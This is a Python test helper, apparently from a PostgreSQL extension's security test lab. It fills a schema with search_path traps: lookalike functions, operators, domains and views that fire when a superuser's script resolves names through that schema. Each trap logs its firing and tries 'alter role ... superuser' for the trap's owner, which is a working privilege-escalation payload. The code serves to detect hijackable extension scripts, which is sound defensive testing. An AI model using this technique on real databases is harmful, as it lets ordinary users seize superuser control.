# SPDX-License-Identifier: PostgreSQL
"""A schema full of traps for a superuser's script, set by an attacker.

PostgreSQL looks for functions and operators in all schemas of the search_path and takes the one
that fits the arguments best; its own have no priority in that.  While an extension's script runs,
its schema is in the path.  So there are traps with each name that the scripts use, for each
combination of types near those of the actual arguments; and relations and types named like
PostgreSQL's own. (A cast needs a type of one's own, and an operator for text alone would have to be
better than PostgreSQL's: nobody can set those traps.)

A trap that is called reports it in the server's log, and tries to make its owner a superuser.
"""

import itertools
import re
from collections.abc import Iterator, Sequence
from dataclasses import dataclass

import psycopg
from psycopg.conninfo import make_conninfo

from pgflash_lab.server import Server
from support.world import Connection

SPRUNG = "trap sprung"

TYPES = [
    *("bool", "name", "int4", "int8", "oid", "float8", "numeric", "text", "regclass"),
    *("timestamptz", "interval", "anyelement"),
]
_SHORT = {"bigint": "int8", "integer": "int4", "double precision": "float8", "boolean": "bool"}
_COMPARE = {"=", "<>", "<", "<=", ">", ">="}

#: The return type that a trap needs to be taken for PostgreSQL's own; otherwise text.
_RETURNS = {
    "current_database": "name",
    "now": "timestamptz",
    "pg_relation_filenode": "oid",
    "pg_extension_config_dump": "void",
}

_OWN_TYPES = (
    *("text", "oid", "name", "bool", "int4", "int8", "float8", "numeric", "regclass"),
    *("timestamptz", "interval", "jsonb", "bytea"),
)
_RELATIONS = (
    *("pg_class", "pg_database", "pg_tablespace", "pg_namespace", "pg_proc", "pg_depend"),
    *("pg_extension", "pg_settings", "pg_stat_wal", "pg_stat_activity", "pg_stat_database"),
    *("pg_stat_io", "pg_stat_checkpointer", "pg_stat_bgwriter", "pg_control_system"),
)

_NO_CALLS = re.compile(
    r"^(any|array|as|by|check|columns?|exists|in|key|or|on|and|operator|table|with|values|from|"
    r"interval|coalesce|nullif|case|when|then|else|update|delete|select)$",
    re.I,
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Declared:
    """A function that the scripts create: its arguments' types, and the text of its columns."""

    arguments: tuple[str, ...]
    columns: str


def _code(script: str) -> str:
    """Return a script without comments and without the contents of its strings."""
    script = re.sub(r"^COMMENT ON .*?;\n", "", script, flags=re.S | re.M)
    script = re.sub(r"--[^\n]*|^\\[^\n]*", "", script, flags=re.M)
    return re.sub(r"'(?:[^']|'')*'", "''", script)


def operators_of(script: str) -> set[str]:
    """Return the operators in a script, including those that SQL keywords stand for."""
    code = _code(script)
    found = set(re.findall(r"OPERATOR\((?:pg_catalog\.)?(\S+?)\)", code))
    return found | {"="} | set(re.findall(r"(?<=[\w)] )[-+*/<>=~!@#%^&|]+(?= [\w('])", code))


def functions_of(script: str) -> set[str]:
    """Return the names of functions that a script calls or creates."""
    code = _code(script)
    names = set(re.findall(r"(?:pg_catalog\.)?\b([a-z_]\w*)\s*\(", code))
    names -= set(re.findall(r"(?:TABLE|TYPE|INTO) (\w+)", code))
    return {name for name in names if not _NO_CALLS.match(name)}


def declared_by(script: str) -> dict[str, Declared]:
    """Return the functions that a script creates."""
    found = {}
    for name, text in re.findall(r"^CREATE FUNCTION (\w+)\((.*?)\)[ \n]", script, re.S | re.M):
        arguments = [one.split(" DEFAULT ")[0].strip() for one in text.split(",") if one.strip()]
        inputs = [one.removeprefix("IN ") for one in arguments if not one.startswith("OUT ")]
        types = [one if " " not in one else one.split(" ", 1)[1] for one in inputs]
        found[name] = Declared(
            arguments=tuple(_SHORT.get(one, one) for one in types),
            columns=", ".join(one for one in arguments if one.startswith("OUT ")),
        )
    return found


def _trap(name: str, types: Sequence[str], returns: str, columns: str = "") -> str:
    arguments = ", ".join([*types, *([columns] if columns else [])])
    rows = f"setof {returns}" if columns else returns
    end = "return" if columns or returns == "void" else "return null"
    return (
        f"create function {name}({arguments}) returns {rows} language plpgsql as "
        f"'begin perform {{schema}}.sprung(); {end}; end'"
    )


def _operators(names: set[str]) -> Iterator[str]:
    for left, right in itertools.product([None, *TYPES], TYPES):
        types = [right] if left is None else [left, right]
        short = re.sub(r"\W", "", "_".join(types))
        yield _trap(f"{{schema}}.trap_compare_{short}", types, "bool")
        yield _trap(f"{{schema}}.trap_{short}", types, types[0])
        for name in sorted(names):
            if left is None and name not in "+-":
                continue
            function = f"trap_{'compare_' if name in _COMPARE else ''}{short}"
            sides = f"rightarg = {right}" + (f", leftarg = {left}" if left else "")
            yield f"create operator {{schema}}.{name} ({sides}, function = {{schema}}.{function})"


def _functions(names: set[str], own: dict[str, Declared]) -> Iterator[str]:
    for name in sorted(names):
        declared = own.get(name, Declared(arguments=("?",), columns=""))
        widths = {len(declared.arguments)} if name in own else {0, 1, 2}
        for types in itertools.chain(*(itertools.product(TYPES, repeat=n) for n in widths)):
            if len(types) > 2 or types == declared.arguments:
                continue
            returns = "record" if declared.columns else _RETURNS.get(name, "text")
            if returns == "text" and "anyelement" in types:
                returns = "anyelement"
            yield _trap(f"{{schema}}.{name}", types, returns, declared.columns)


def _others() -> Iterator[str]:
    yield "create function {schema}.sprung_too(anyelement) returns bool language plpgsql as " + (
        "'begin perform {schema}.sprung(); return true; end'"
    )
    for name in _OWN_TYPES:
        yield (
            f"create domain {{schema}}.{name} as pg_catalog.{name} "
            "check ({schema}.sprung_too(value))"
        )
    for name in _RELATIONS:
        yield f"create view {{schema}}.{name} as select {{schema}}.sprung() as oid"


def as_user(server: Server, user: str, database: str) -> Connection:
    """Return a session of an ordinary user; each statement commits itself."""
    return psycopg.connect(make_conninfo(server.conninfo(database), user=user), autocommit=True)


def set_traps(session: Connection, schema: str, scripts: str) -> int:
    """Set traps for everything that the scripts name; return their number."""
    me = session.info.user
    session.execute(
        f"create function {schema}.sprung() returns bool language plpgsql as $$ begin "
        f"raise log '{SPRUNG} by %', current_user; "
        f"begin execute 'alter role {me} superuser'; exception when others then null; end; "
        "return true; end $$"
    )
    statements = [
        *_operators(operators_of(scripts)),
        *_functions(functions_of(scripts), declared_by(scripts)),
        *_others(),
    ]
    with session.transaction():
        session.execute("set local check_function_bodies = off")
        session.execute(";".join(statements).replace("{schema}", schema))
    return len(statements)
